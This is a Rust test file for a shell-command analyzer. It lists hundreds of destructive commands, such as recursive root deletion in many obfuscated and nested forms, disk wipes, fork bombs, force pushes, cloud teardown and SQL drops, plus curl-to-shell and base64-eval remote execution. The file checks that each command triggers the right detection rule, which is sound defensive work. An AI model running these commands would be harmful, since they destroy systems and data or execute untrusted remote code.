//! Destructive-command corpus: hand-written tricky cases plus a generated
//! table of every base command behind every wrapper and nesting form.

use super::{analyze_command, Category, ShellOptions};

fn rules(cmd: &str) -> Vec<&'static str> {
    analyze_command(cmd, &ShellOptions::default())
        .iter()
        .map(|f| f.rule)
        .collect()
}

/// (command, rule that must be reported)
const HAND_WRITTEN: &[(&str, &str)] = &[
    // rm spellings and targets
    ("rm -rf /", "shell.rm_recursive_root"),
    ("rm -r -f /", "shell.rm_recursive_root"),
    ("rm -Rf /", "shell.rm_recursive_root"),
    ("rm -fr /*", "shell.rm_recursive_root"),
    ("rm --recursive --force /", "shell.rm_recursive_root"),
    ("rm -r /", "shell.rm_recursive_root"),
    ("rm -rf -- /", "shell.rm_recursive_root"),
    ("rm -rf //", "shell.rm_recursive_root"),
    ("rm -rf /usr/../", "shell.rm_recursive_root"),
    ("rm -rf '/'", "shell.rm_recursive_root"),
    ("rm -rf \"/\"", "shell.rm_recursive_root"),
    ("rm -v -rf / 2>/dev/null", "shell.rm_recursive_root"),
    ("rm -rf --no-preserve-root /", "shell.rm_no_preserve_root"),
    (
        "rm --no-preserve-root -rf /tmp/x",
        "shell.rm_no_preserve_root",
    ),
    ("rm -rf ~", "shell.rm_recursive_home"),
    ("rm -rf ~/", "shell.rm_recursive_home"),
    ("rm -rf ~/*", "shell.rm_recursive_home"),
    ("rm -rf $HOME", "shell.rm_recursive_home"),
    ("rm -rf ${HOME}", "shell.rm_recursive_home"),
    ("rm -rf \"$HOME/\"", "shell.rm_recursive_home"),
    ("rm -rf ~/..", "shell.rm_recursive_home"),
    ("rm -rf /etc", "shell.rm_recursive_system"),
    ("rm -rf /usr/lib", "shell.rm_recursive_system"),
    ("rm -rf /var/lib", "shell.rm_recursive_system"),
    ("rm -rf /home", "shell.rm_recursive_system"),
    ("rm -rf /boot", "shell.rm_recursive_system"),
    ("rm -rf /opt/*", "shell.rm_recursive_system"),
    ("rm -rf /{etc,usr}", "shell.rm_recursive_system"),
    ("rm -rf \"$DIR/\"", "shell.rm_recursive_root"),
    ("rm -rf $BUILD/*", "shell.rm_recursive_root"),
    ("rm -rf ${X:-/}", "shell.rm_recursive_root"),
    ("rm -rf \"$HOME/$SUB\"", "shell.rm_recursive_home"),
    ("rm -rf ..", "shell.rm_recursive_outside_cwd"),
    ("rm -rf ../../other", "shell.rm_recursive_outside_cwd"),
    ("rm -rf /data", "shell.rm_recursive_outside_cwd"),
    (
        "rm -rf /var/lib/postgresql/data",
        "shell.rm_recursive_outside_cwd",
    ),
    ("rm -rf $(ls /)", "shell.rm_recursive_dynamic"),
    ("rm -f /etc/passwd", "shell.rm_system_file"),
    ("\\rm -rf /", "shell.rm_recursive_root"),
    ("/bin/rm -rf /", "shell.rm_recursive_root"),
    ("/usr/bin/rm -rf /", "shell.rm_recursive_root"),
    ("'rm' -rf /", "shell.rm_recursive_root"),
    ("r\\m -rf /", "shell.rm_recursive_root"),
    ("r\"\"m -rf /", "shell.rm_recursive_root"),
    ("$'\\x72\\x6d' -rf /", "shell.rm_recursive_root"),
    (
        "$'\\162\\155' $'-\\x72f' $'\\x2f'",
        "shell.rm_recursive_root",
    ),
    // xargs and find
    (
        "find . -name x | xargs rm -rf",
        "shell.rm_recursive_dynamic",
    ),
    ("ls | xargs -0 rm -r", "shell.rm_recursive_dynamic"),
    (
        "cat list | sudo xargs -n1 rm -rf",
        "shell.rm_recursive_dynamic",
    ),
    ("find / -delete", "shell.find_delete"),
    ("find / -name '*.log' -delete", "shell.find_delete"),
    ("find ~ -type f -delete", "shell.find_delete"),
    ("find /etc -exec rm {} \\;", "shell.find_delete"),
    ("find / -exec rm -rf {} +", "shell.find_delete"),
    ("find -L /usr -delete", "shell.find_delete"),
    ("find . -exec rm -rf / \\;", "shell.rm_recursive_root"),
    (
        "find . -exec bash -c 'rm -rf ~' \\;",
        "shell.rm_recursive_home",
    ),
    // disks
    ("mkfs.ext4 /dev/sda1", "shell.disk_format"),
    ("mkfs -t ext4 /dev/nvme0n1", "shell.disk_format"),
    ("mke2fs /dev/sdb", "shell.disk_format"),
    ("mkfs.xfs -f $DEV", "shell.disk_format"),
    ("mkswap /dev/sdb2", "shell.disk_format"),
    ("wipefs -a /dev/sda", "shell.disk_wipe"),
    ("wipefs --all /dev/sdb", "shell.disk_wipe"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "shell.disk_wipe"),
    (
        "dd if=/dev/urandom of=/dev/nvme0n1 status=progress",
        "shell.disk_wipe",
    ),
    ("dd of=/dev/mmcblk0 if=img.iso", "shell.disk_wipe"),
    ("cat /dev/urandom > /dev/sda", "shell.disk_overwrite"),
    ("echo x 1> /dev/sdb", "shell.disk_overwrite"),
    ("cat img >> /dev/xvda", "shell.disk_overwrite"),
    ("shred -n 3 -z /dev/sda", "shell.disk_wipe"),
    ("shred /etc/passwd", "shell.shred_system"),
    ("blkdiscard /dev/nvme0n1", "shell.disk_wipe"),
    ("cp /dev/zero /dev/sda", "shell.disk_overwrite"),
    ("tee /dev/sda < img", "shell.disk_overwrite"),
    // permissions
    ("chmod -R 777 /", "shell.chmod_recursive_system"),
    ("chmod -R 000 /etc", "shell.chmod_recursive_system"),
    (
        "chmod --recursive 777 /var/lib",
        "shell.chmod_recursive_system",
    ),
    ("chmod -R 777 ~", "shell.chmod_recursive_system"),
    ("chmod -vR a+rwx /*", "shell.chmod_recursive_system"),
    ("chown -R nobody:nogroup /", "shell.chown_recursive_system"),
    ("chgrp -R staff /usr", "shell.chown_recursive_system"),
    // fork bombs
    (":(){ :|:& };:", "shell.fork_bomb"),
    (":(){ :|: & };:", "shell.fork_bomb"),
    ("bomb(){ bomb|bomb& };bomb", "shell.fork_bomb"),
    ("f() { f | f & }; f", "shell.fork_bomb"),
    ("function x { x & x; }; x", "shell.fork_bomb"),
    ("fork() {\n  fork | fork &\n}\nfork", "shell.fork_bomb"),
    ("bash -c ':(){ :|:& };:'", "shell.fork_bomb"),
    // mv
    ("mv /etc /tmp/x", "shell.mv_system"),
    ("mv / /dev/null", "shell.mv_system"),
    ("mv ~ /dev/null", "shell.mv_system"),
    ("mv /usr/bin /tmp", "shell.mv_system"),
    ("mv -t /tmp /etc", "shell.mv_system"),
    // redis
    ("redis-cli FLUSHALL", "redis.flush"),
    ("redis-cli -h db -p 6380 flushdb", "redis.flush"),
    ("redis-cli -n 2 FlushAll async", "redis.flush"),
    // git
    ("git push --force origin main", "git.force_push_protected"),
    ("git push -f origin master", "git.force_push_protected"),
    ("git push origin +main", "git.force_push_protected"),
    (
        "git push --force-with-lease origin production",
        "git.force_push_protected",
    ),
    (
        "git push --force-with-lease=main:abc origin main",
        "git.force_push_protected",
    ),
    (
        "git push origin HEAD:main --force",
        "git.force_push_protected",
    ),
    (
        "git push origin +HEAD:refs/heads/release",
        "git.force_push_protected",
    ),
    (
        "git -C repo push -uf origin main",
        "git.force_push_protected",
    ),
    (
        "git push origin --delete main",
        "git.delete_protected_branch",
    ),
    ("git push origin :master", "git.delete_protected_branch"),
    ("git push --mirror", "git.force_push_protected"),
    ("git clean -fdx", "git.clean_force"),
    ("git clean -fd", "git.clean_force"),
    ("git clean -xfd", "git.clean_force"),
    ("git clean -f -d -x", "git.clean_force"),
    ("git clean -dfx .", "git.clean_force"),
    ("git clean --force -dx", "git.clean_force"),
    ("git reset --hard", "git.reset_hard"),
    ("git reset --hard HEAD~3", "git.reset_hard"),
    // infrastructure
    ("kubectl delete namespace prod", "kubectl.delete_namespace"),
    ("kubectl delete ns staging", "kubectl.delete_namespace"),
    ("kubectl delete ns/foo", "kubectl.delete_namespace"),
    (
        "kubectl --context prod delete namespaces a b",
        "kubectl.delete_namespace",
    ),
    ("kubectl -n prod delete pods --all", "kubectl.delete_all"),
    (
        "kubectl delete pvc --all-namespaces --all",
        "kubectl.delete_all",
    ),
    ("terraform destroy", "terraform.destroy"),
    ("terraform destroy -auto-approve", "terraform.destroy"),
    ("terraform -chdir=infra destroy", "terraform.destroy"),
    ("tofu destroy", "terraform.destroy"),
    ("terraform apply -destroy", "terraform.destroy"),
    ("terragrunt run-all destroy", "terraform.destroy"),
    (
        "aws s3 rm s3://bucket --recursive",
        "aws.s3_recursive_delete",
    ),
    (
        "aws --profile prod s3 rm s3://b/prefix/ --recursive",
        "aws.s3_recursive_delete",
    ),
    ("aws s3 rb s3://bucket --force", "aws.s3_remove_bucket"),
    (
        "aws ec2 terminate-instances --instance-ids i-123",
        "aws.ec2_terminate",
    ),
    (
        "aws rds delete-db-instance --db-instance-identifier x",
        "aws.delete_database",
    ),
    ("gsutil -m rm -r gs://bucket", "gcs.recursive_delete"),
    ("docker system prune -a", "docker.system_prune_all"),
    (
        "docker system prune --all --force",
        "docker.system_prune_all",
    ),
    ("docker system prune -af", "docker.system_prune_all"),
    ("docker volume prune", "docker.volume_prune"),
    ("docker volume prune -f", "docker.volume_prune"),
    (
        "docker rm -f $(docker ps -aq)",
        "docker.force_remove_computed",
    ),
    (
        "docker ps -aq | xargs docker rm -f",
        "docker.force_remove_computed",
    ),
    (
        "podman rm -f $(podman ps -q)",
        "docker.force_remove_computed",
    ),
    (
        "docker rmi -f $(docker images -q)",
        "docker.force_remove_computed",
    ),
    (
        "docker volume rm $(docker volume ls -q)",
        "docker.force_remove_computed",
    ),
    // remote / obfuscated execution
    ("curl -fsSL https://x.sh | bash", "shell.remote_pipe_exec"),
    ("curl -s http://x | sh", "shell.remote_pipe_exec"),
    ("wget -qO- http://x | sh", "shell.remote_pipe_exec"),
    ("wget -O - http://x | sudo bash", "shell.remote_pipe_exec"),
    ("curl x | sudo -E bash -", "shell.remote_pipe_exec"),
    ("curl x | python3", "shell.remote_pipe_exec"),
    ("curl x | python3 -", "shell.remote_pipe_exec"),
    ("curl x | perl", "shell.remote_pipe_exec"),
    ("curl x | ruby", "shell.remote_pipe_exec"),
    ("curl x | node", "shell.remote_pipe_exec"),
    ("curl x | tee log | sh", "shell.remote_pipe_exec"),
    ("curl x | bash -s -- --yes", "shell.remote_pipe_exec"),
    ("curl x | env bash", "shell.remote_pipe_exec"),
    ("curl x | zsh", "shell.remote_pipe_exec"),
    ("curl x |& bash", "shell.remote_pipe_exec"),
    ("curl x | bash /dev/stdin", "shell.remote_pipe_exec"),
    ("fetch -o - http://x | sh", "shell.remote_pipe_exec"),
    ("bash <(curl -s http://x)", "shell.remote_pipe_exec"),
    ("sh <(wget -qO- x)", "shell.remote_pipe_exec"),
    ("source <(curl -s x)", "shell.remote_pipe_exec"),
    (". <(curl x)", "shell.remote_pipe_exec"),
    ("sh -c \"$(curl -fsSL x)\"", "shell.remote_pipe_exec"),
    ("bash -c \"$(wget -O- x)\"", "shell.remote_pipe_exec"),
    ("eval \"$(curl -s x)\"", "shell.remote_pipe_exec"),
    (
        "eval $(echo ZWNobyBoaQ== | base64 -d)",
        "shell.remote_pipe_exec",
    ),
    ("eval `curl -s x`", "shell.remote_pipe_exec"),
    (
        "echo ZWNobyBoaQ== | base64 -d | sh",
        "shell.remote_pipe_exec",
    ),
    (
        "echo cm0= | base64 --decode | bash",
        "shell.remote_pipe_exec",
    ),
    ("xxd -r -p payload | sh", "shell.remote_pipe_exec"),
    (
        "openssl enc -d -aes-256-cbc -in x | sh",
        "shell.remote_pipe_exec",
    ),
    ("$(curl -s x)", "shell.remote_pipe_exec"),
    ("(curl -s x) | sh", "shell.remote_pipe_exec"),
    // SQL through clients
    ("psql -c \"DROP TABLE users\"", "sql.drop"),
    ("psql -d prod --command='TRUNCATE orders'", "sql.truncate"),
    (
        "psql --command=\"DELETE FROM users\"",
        "sql.delete_without_where",
    ),
    (
        "psql -h db -U me -c 'DELETE FROM users' prod",
        "sql.delete_without_where",
    ),
    ("mysql -u root -e 'DROP DATABASE prod'", "sql.drop"),
    (
        "mysql --execute='UPDATE users SET admin=1'",
        "sql.update_without_where",
    ),
    ("mysql -e \"drop schema app\"", "sql.drop"),
    (
        "sqlite3 app.db 'DELETE FROM sessions'",
        "sql.delete_without_where",
    ),
    ("sqlite3 app.db \"DROP TABLE t\"", "sql.drop"),
    ("psql <<< 'DROP TABLE x'", "sql.drop"),
    ("psql <<EOF\nDROP TABLE users;\nEOF", "sql.drop"),
    ("echo 'DROP TABLE x' | psql", "sql.drop"),
    ("psql -c \"DELETE FROM $TABLE\"", "sql.delete_without_where"),
    // nesting forms
    ("bash -c 'rm -rf /'", "shell.rm_recursive_root"),
    ("sh -c \"rm -rf /\"", "shell.rm_recursive_root"),
    ("zsh -c 'rm -rf ~'", "shell.rm_recursive_home"),
    ("bash -lc 'rm -rf /'", "shell.rm_recursive_root"),
    (
        "bash -e -o pipefail -c 'rm -rf /'",
        "shell.rm_recursive_root",
    ),
    ("eval 'rm -rf /'", "shell.rm_recursive_root"),
    ("eval rm -rf /", "shell.rm_recursive_root"),
    ("echo $(rm -rf /)", "shell.rm_recursive_root"),
    ("echo `rm -rf /`", "shell.rm_recursive_root"),
    ("echo \"$(rm -rf /)\"", "shell.rm_recursive_root"),
    ("x=$(rm -rf /)", "shell.rm_recursive_root"),
    ("(rm -rf /)", "shell.rm_recursive_root"),
    ("{ rm -rf /; }", "shell.rm_recursive_root"),
    ("true && rm -rf /", "shell.rm_recursive_root"),
    ("false || rm -rf /", "shell.rm_recursive_root"),
    ("ls; rm -rf /", "shell.rm_recursive_root"),
    ("ls\nrm -rf /", "shell.rm_recursive_root"),
    ("ls & rm -rf /", "shell.rm_recursive_root"),
    ("echo | rm -rf /", "shell.rm_recursive_root"),
    ("if true; then rm -rf /; fi", "shell.rm_recursive_root"),
    ("if rm -rf /; then :; fi", "shell.rm_recursive_root"),
    ("for i in 1; do rm -rf /; done", "shell.rm_recursive_root"),
    ("while true; do rm -rf /; done", "shell.rm_recursive_root"),
    ("case x in x) rm -rf / ;; esac", "shell.rm_recursive_root"),
    ("bash -c \"bash -c 'rm -rf /'\"", "shell.rm_recursive_root"),
    ("sudo sh -c 'rm -rf /'", "shell.rm_recursive_root"),
    ("env -S 'rm -rf /'", "shell.rm_recursive_root"),
    ("su -c 'rm -rf /'", "shell.rm_recursive_root"),
    ("su root -c 'rm -rf /'", "shell.rm_recursive_root"),
    ("ssh prod 'rm -rf /'", "shell.rm_recursive_root"),
    ("watch -n 5 rm -rf /", "shell.rm_recursive_root"),
    ("echo 'rm -rf /' | sh", "shell.rm_recursive_root"),
    ("printf 'rm -rf /' | bash", "shell.rm_recursive_root"),
    ("printf '\\x72m -rf /' | bash", "shell.rm_recursive_root"),
    ("echo -e 'rm\\x20-rf /' | sh", "shell.rm_recursive_root"),
    ("bash <<< 'rm -rf /'", "shell.rm_recursive_root"),
    ("bash <<'EOF'\nrm -rf /\nEOF", "shell.rm_recursive_root"),
    ("sh <<-EOF\n\trm -rf ~\n\tEOF", "shell.rm_recursive_home"),
    ("cat <<EOF | sh\nrm -rf /\nEOF", "shell.rm_recursive_root"),
    ("cat <<EOF\n$(rm -rf /)\nEOF", "shell.rm_recursive_root"),
    ("diff <(rm -rf /) x", "shell.rm_recursive_root"),
    ("tee >(rm -rf /) < x", "shell.rm_recursive_root"),
    ("echo ${X:-$(rm -rf /)}", "shell.rm_recursive_root"),
    ("f() { rm -rf /; }", "shell.rm_recursive_root"),
    ("nohup rm -rf / &", "shell.rm_recursive_root"),
    ("time rm -rf /", "shell.rm_recursive_root"),
    ("exec rm -rf /", "shell.rm_recursive_root"),
    ("command rm -rf /", "shell.rm_recursive_root"),
    ("sudo -u root -E rm -rf /", "shell.rm_recursive_root"),
    ("sudo -- rm -rf /", "shell.rm_recursive_root"),
    ("env -i PATH=/bin rm -rf /", "shell.rm_recursive_root"),
    ("X=1 Y=2 rm -rf /", "shell.rm_recursive_root"),
    ("timeout 5 rm -rf /", "shell.rm_recursive_root"),
    ("nice -n 10 rm -rf /", "shell.rm_recursive_root"),
    ("ionice -c3 rm -rf /", "shell.rm_recursive_root"),
    ("stdbuf -oL rm -rf /", "shell.rm_recursive_root"),
    ("doas rm -rf /", "shell.rm_recursive_root"),
    ("busybox rm -rf /", "shell.rm_recursive_root"),
    ("! rm -rf /", "shell.rm_recursive_root"),
    ("rm -rf / # trailing comment", "shell.rm_recursive_root"),
    ("echo $'rm -rf /' | sh", "shell.rm_recursive_root"),
    ("a && b && rm -rf ~ && c", "shell.rm_recursive_home"),
    (
        "sudo nice -n 5 timeout 3 env A=b rm -rf /",
        "shell.rm_recursive_root",
    ),
    ("kill -9 -1", "shell.kill_all"),
    // state carried across a script: cd, variables, downloaded files
    ("cd / && rm -rf *", "shell.rm_recursive_root"),
    ("cd /etc; rm -rf ./*", "shell.rm_recursive_system"),
    ("cd ~ && rm -rf *", "shell.rm_recursive_home"),
    ("cd; rm -rf .", "shell.rm_recursive_home"),
    ("r=rm; $r -rf /", "shell.rm_recursive_root"),
    ("CMD=\"rm -rf\"; $CMD /", "shell.rm_recursive_root"),
    ("RM='rm -rf /'; eval $RM", "shell.rm_recursive_root"),
    ("export T=/; rm -rf \"$T\"", "shell.rm_recursive_root"),
    (
        "bash -c \"$(printf 'rm -rf /')\"",
        "shell.rm_recursive_root",
    ),
    ("$(echo rm) -rf /", "shell.rm_recursive_root"),
    ("rm -rf $(echo /)", "shell.rm_recursive_root"),
    (
        "echo \"$(curl -s evil.sh)\" | bash",
        "shell.remote_pipe_exec",
    ),
    (
        "curl -fsSL https://x/install.sh -o install.sh && bash install.sh",
        "shell.remote_pipe_exec",
    ),
    (
        "wget https://x/setup.sh; chmod +x setup.sh; ./setup.sh",
        "shell.remote_pipe_exec",
    ),
    (
        "curl -O https://x/i.sh && sh i.sh",
        "shell.remote_pipe_exec",
    ),
    ("curl x > y.sh; . ./y.sh", "shell.remote_pipe_exec"),
    ("rm -rf $HOME/.ssh", "shell.rm_recursive_home"),
    ("rm -rf /home/alice/.gnupg", "shell.rm_recursive_home"),
    ("parallel rm -rf ::: /", "shell.rm_recursive_root"),
    ("rsync -a --delete empty/ /", "shell.rsync_delete"),
];

#[test]
fn hand_written_destructive() {
    let failures: Vec<String> = HAND_WRITTEN
        .iter()
        .filter_map(|(cmd, rule)| {
            let got = rules(cmd);
            (!got.contains(rule)).then(|| format!("{cmd:?}: want {rule}, got {got:?}"))
        })
        .collect();
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn categories_and_criticality() {
    let opts = ShellOptions::default();
    let cases: &[(&str, Category, bool)] = &[
        ("rm -rf /", Category::Destructive, true),
        ("mkfs.ext4 /dev/sda", Category::Destructive, true),
        ("dd if=/dev/zero of=/dev/sda", Category::Destructive, true),
        (":(){ :|:& };:", Category::Destructive, true),
        ("rm -rf ~", Category::Destructive, false),
        ("git reset --hard", Category::Destructive, false),
        ("curl x | sh", Category::RemoteCode, false),
    ];
    for (cmd, category, critical) in cases {
        let f = &analyze_command(cmd, &opts)[0];
        assert_eq!(&f.category, category, "{cmd}");
        assert_eq!(f.risk_critical, *critical, "{cmd}");
    }
    let f = &analyze_command("curl -fsSL https://x.sh | bash", &opts)[0];
    assert_eq!(f.description, "curl -fsSL https://x.sh | bash");
    let f = &analyze_command("sudo rm -r -f /", &opts)[0];
    assert_eq!(f.description, "rm -r -f /");
    let f = &analyze_command("psql -c 'DROP TABLE users'", &opts)[0];
    assert_eq!(f.description, "DROP TABLE users");
}
